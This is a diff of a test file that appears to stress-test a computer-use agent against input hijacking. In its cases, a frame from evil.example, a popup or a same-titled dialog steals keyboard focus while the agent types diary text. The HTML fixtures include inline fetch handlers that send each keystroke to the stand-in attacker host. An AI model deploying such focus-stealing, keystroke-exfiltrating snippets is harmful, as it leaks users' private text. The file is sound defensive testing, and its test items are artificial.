@@ -36,6 +36,7 @@ def case(name: str, body: str, *steps: Step, **more: Any) -> Case:
 WEATHER = step(click(el("push button", "^Weather$")))
 WRITE = step(type_(TEXT, DIARY))
 GREEN = Requested("diary.example", "/done", "green")
+SLOWLY = step(type_(TEXT, DIARY, delay=0.1))
 OTHER = "<input id=o aria-label=Public oninput=\"fetch('/done?'+encodeURIComponent(this.value))\">"
 
 
@@ -67,13 +68,13 @@ CASES = (
          step(type_(TEXT, DIARY, delay=0.05)), goal=WORDS, effect=Requested("evil.example", "/in", "e"), levels=BOTH,
          others={"evil.example/f": "<title>Diary</title><input autofocus aria-label=Diary oninput=\"fetch('/in?'+encodeURIComponent(this.value))\">"}),
     case("a frame of another host takes the keyboard", "<input aria-label=Diary oninput=\"this.value.length==7&&f.contentWindow.postMessage(1,'*')\">"
-         "<iframe id=f src=http://evil.example/f></iframe>", WRITE, goal=WORDS, effect=Requested("evil.example", "/in", "green"), levels=BOTH,
+         "<iframe id=f src=http://evil.example/f></iframe>", SLOWLY, goal=WORDS, effect=Requested("evil.example", "/in", "wide"), levels=BOTH,
          others={"evil.example/f": "<input id=i oninput=\"fetch('/in?'+encodeURIComponent(this.value))\"><script>onmessage=()=>i.focus()</script>"}),
     case("a popup of the page takes the rest", "<input aria-label=Diary onkeydown=\"this.value.length==7&&!window.w&&(w=open('/pop','_blank','popup,width=400,height=200'))\">",
-         step(type_(TEXT, DIARY, delay=0.05)), goal=WORDS, effect=GREEN, levels=BOTH,
+         SLOWLY, goal=WORDS, effect=Requested("diary.example", "/done", "wide"), levels=BOTH,
          others={"diary.example/pop": "<input autofocus oninput=\"fetch('/done?'+encodeURIComponent(this.value))\"><script>onload=()=>document.querySelector('input').focus()</script>"}),
-    case("a dialog of the same program under the same title takes the rest", "", WRITE, goal=WORDS, url="", pages={}, levels=BOTH,
-         effect=Told("diary", "Answer", "green"), programs=(window("diary", "Diary", thing("entry", "Diary"), **{"pop up": POP}),)),
+    case("a dialog of the same program under the same title takes the rest", "", SLOWLY, goal=WORDS, url="", pages={}, levels=BOTH,
+         effect=Told("diary", "Answer", "wide"), programs=(window("diary", "Diary", thing("entry", "Diary"), **{"pop up": POP}),)),
     case("a message of the page is accepted by the line feed of a text", f"<input aria-label=Diary oninput=\"this.value.length==8&&confirm('Order now?')&&{DONE}\">",
          step(type_("The gard\nis", DIARY, delay=0.05), pause(0.3), keys("enter")), goal=WORDS),
     case("the lines of a text are a question that came up meanwhile", "<textarea aria-label=Diary oninput=\"this.value.length==4&&d.showModal()\"></textarea>"
